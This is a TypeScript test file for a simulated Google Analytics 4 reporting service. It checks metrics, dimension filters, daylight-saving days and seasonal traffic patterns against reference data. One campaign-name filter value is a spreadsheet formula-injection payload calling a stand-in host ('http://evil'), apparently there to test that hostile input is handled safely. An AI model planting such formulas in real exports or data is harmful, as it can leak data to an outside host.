import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { catalogue, isCalculated } from '../../../src/kpi/catalogue.ts';
import type { Quantity } from '../../../src/kpi/define.ts';
import type { FeedTest } from '../../../src/plan/model/feeds.ts';
import { dimensionFilter } from '../../../src/sources/ga4/filter.ts';
import { dayNumber, isoDate, startOf } from '../../../src/workbench/vendors/days.ts';
import { dimensions } from '../../../src/workbench/vendors/ga4/events/dimensions.ts';
import { goTogether } from '../../../src/workbench/vendors/ga4/events/together.ts';
import { metrics } from '../../../src/workbench/vendors/ga4/metrics.ts';
import { propertyOf } from '../../../src/workbench/vendors/ga4/properties.ts';
import { truth, truthBy } from '../../kit/vendors/ga4-truth.ts';
import { america, analytics, column, europe, fields, sum, viet } from './analytics.ts';

const service = analytics();
const range = (from: number, to: number) => ({ startDate: isoDate(from), endDate: isoDate(to) });

function answered(property: string, metric: string, from: number, to: number, more: object = {}) {
  const body = { dateRanges: [range(from, to)], metrics: fields(metric), ...more };
  return column(service.report(property, body));
}

const filterOf = (only: readonly FeedTest[]) => ({
  ...(only.length === 0 ? {} : { dimensionFilter: dimensionFilter(only) }),
});

const quantities: readonly Quantity[] = catalogue.flatMap((kpi) =>
  isCalculated(kpi)
    ? Object.values(kpi.inputs).filter((input): input is Quantity => 'unit' in input)
    : [kpi.counts],
);

describe('the numbers of Google Analytics in the workbench', () => {
  it('has every metric and dimension the catalogue reads from Google Analytics', () => {
    const read = quantities.flatMap(({ sources }) => sources?.ga4 ?? []);
    expect(read.length).toBeGreaterThan(20);
    expect(read.filter(({ metric }) => !metrics.has(metric))).toEqual([]);
    const tests = read.flatMap(({ only = [] }) => only);
    expect(tests.filter(({ dimension }) => !dimensions.has(dimension))).toEqual([]);
  });

  it('answers every reading of the catalogue with what was counted apart, and never with nothing', () => {
    const from = dayNumber(2026, 10, 26);
    for (const { sources } of quantities) {
      const { metric = '', only = [] } = sources?.ga4 ?? {};
      if (metric === '') continue;
      const tests = only.flatMap((test) => ('asked' in test ? [] : [test]));
      const got = answered(viet, metric, from, from + 6, filterOf(tests)).get('') ?? 0;
      expect(got).toBeGreaterThan(0);
      expect(got).toBeCloseTo(
        truth({ property: viet, metric, from, to: from + 6, only: tests }),
        5,
      );
    }
  });

  it('is what happened, for metrics, dimensions, filters and days taken at will', () => {
    const told = [
      'date',
      'yearMonth',
      'sessionDefaultChannelGroup',
      'sessionSource',
      'sessionMedium',
      'sessionCampaignName',
      'landingPage',
      'pagePath',
      'eventName',
      'deviceCategory',
    ];
    const tests = [
      { dimension: 'sessionDefaultChannelGroup', is: ['Organic Search', 'Email'] },
      { dimension: 'eventName', is: ['generate_lead', 'purchase'] },
      { dimension: 'sessionCampaignName', is: ['Sale 11.11', '=IMPORTXML("http://evil","//a")'] },
      { dimension: 'deviceCategory', is: ['mobile'] },
    ];
    fc.assert(
      fc.property(
        fc.constantFrom(viet, europe, america),
        fc.constantFrom(...metrics.keys()),
        fc.constantFrom(...told),
        fc.subarray(tests, { maxLength: 2 }),
        fc.integer({ min: dayNumber(2025, 1, 1), max: dayNumber(2027, 6, 1) }),
        fc.integer({ min: 0, max: 12 }),
        fc.option(fc.integer({ min: 1, max: 60 })),
        (property, metric, dimension, only, from, length, hoursAfter) => {
          const names = [dimension, ...only.map((test) => test.dimension)];
          fc.pre(goTogether(names, [metrics.get(metric)!.facts]));
          const to = from + length;
          const end = startOf(propertyOf(property)?.zone ?? '', to + 1);
          const nowMs = end + (hoursAfter ?? 1000) * 3_600_000;
          const report = service.report(
            property,
            {
              dateRanges: [range(from, to)],
              metrics: fields(metric),
              dimensions: fields(dimension),
              ...filterOf(only),
            },
            nowMs,
          );
          const got = [...column(report)].sort();
          const really = [
            ...truthBy({ property, metric, from, to, only, nowMs }, dimension),
          ].sort();
          expect(got.map(([value]) => value)).toEqual(really.map(([value]) => value));
          for (const [at, [, number]] of got.entries()) {
            expect(number).toBeCloseTo(really[at]?.[1] ?? Number.NaN, 5);
          }
        },
      ),
      { numRuns: 100 },
    );
  });

  it.each([
    ['spring, 23 hours', europe, 'Europe/Berlin', dayNumber(2026, 3, 29), 23],
    ['autumn, 25 hours', europe, 'Europe/Berlin', dayNumber(2026, 10, 25), 25],
    ['spring, 23 hours', america, 'America/Los_Angeles', dayNumber(2026, 3, 8), 23],
    ['autumn, 25 hours', america, 'America/Los_Angeles', dayNumber(2026, 11, 1), 25],
    ['the year’s last day', america, 'America/Los_Angeles', dayNumber(2026, 12, 31), 24],
  ])('knows a day when clocks change: %s of %s', (_, property, zone, day, hours) => {
    expect(startOf(zone, day + 1) - startOf(zone, day)).toBe(hours * 3_600_000);
    const asked = { property, metric: 'eventCount', from: day - 1, to: day + 1 };
    expect([
      ...answered(property, 'eventCount', day - 1, day + 1, {
        dimensions: fields('date'),
        orderBys: [{ dimension: { dimensionName: 'date' } }],
      }),
    ]).toEqual([...truthBy(asked, 'date')].sort());
  });

  it('adds up where things are counted, and not where people are', () => {
    const [from, to] = [dayNumber(2026, 10, 5), dayNumber(2026, 10, 11)];
    const daily = (metric: string) =>
      sum(answered(viet, metric, from, to, { dimensions: fields('date') }).values());
    const weekly = (metric: string) => answered(viet, metric, from, to).get('') ?? 0;
    for (const metric of ['sessions', 'keyEvents', 'screenPageViews', 'newUsers']) {
      expect(daily(metric)).toBe(weekly(metric));
    }
    for (const metric of ['activeUsers', 'totalUsers']) {
      expect(daily(metric)).toBeGreaterThan(weekly(metric) * 1.03);
    }
    const channels = answered(viet, 'totalUsers', from, to, {
      dimensions: fields('sessionDefaultChannelGroup'),
    });
    expect(sum(channels.values())).toBeGreaterThan(weekly('totalUsers'));
  });

  it('is of a size a small shop knows, with Tết, 11/11, Black Friday and a week of broken tracking', () => {
    const by = (property: string, metric: string) =>
      answered(property, metric, dayNumber(2026, 1, 1), dayNumber(2026, 12, 31), {
        dimensions: fields('date'),
        limit: '400',
      });
    const sessions = by(viet, 'sessions');
    const on = (date: string) => sessions.get(date) ?? 0;
    expect(sessions.size).toBe(365);
    expect(on('20260217')).toBeLessThan(on('20260310') / 2);
    expect(on('20261111')).toBeGreaterThan(on('20261118') * 1.4);
    const german = by(europe, 'sessions');
    expect(german.get('20261127')).toBeGreaterThan((german.get('20261120') ?? 0) * 1.5);
    const leads = by(viet, 'keyEvents');
    const week = (numbers: Map<string, number>, first: number) =>
      sum([0, 1, 2, 3, 4, 5, 6].map((day) => numbers.get(String(first + day)) ?? 0));
    expect(week(leads, 20260907)).toBeLessThan(week(leads, 20260914) / 5);
    expect(week(sessions, 20260907)).toBeGreaterThan(week(sessions, 20260914) * 0.8);
  });
});
